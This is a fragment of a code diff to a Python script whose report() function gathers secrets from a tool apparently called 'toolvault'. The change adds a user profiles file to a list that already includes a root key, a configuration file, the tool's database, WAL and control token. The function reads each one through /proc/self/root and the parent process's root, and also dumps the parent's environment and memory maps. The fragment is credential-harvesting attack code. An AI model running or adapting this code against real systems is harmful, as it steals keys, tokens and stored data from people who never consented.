@@ -45,7 +45,8 @@ def command(headers):
 
 def report():
     server = f"/proc/{os.getppid()}"
-    files = [ROOT_KEY, CONFIGURATION, f"{DATA}.first-keys", *(f"{DATA}/{name}" for name in ("toolvault.db", "toolvault.db-wal", "control.token"))]
+    profiles = os.path.expanduser("~/.config/toolvault/profiles.toml")
+    files = [ROOT_KEY, CONFIGURATION, profiles, f"{DATA}.first-keys", *(f"{DATA}/{name}" for name in ("toolvault.db", "toolvault.db-wal", "control.token"))]
     ways = ["", "/proc/self/root", f"{server}/root"]
     found = {way + file: read(way + file) for way in ways for file in files}
     found |= {f"{server}/{name}": read(f"{server}/{name}") for name in ("environ", "maps")}
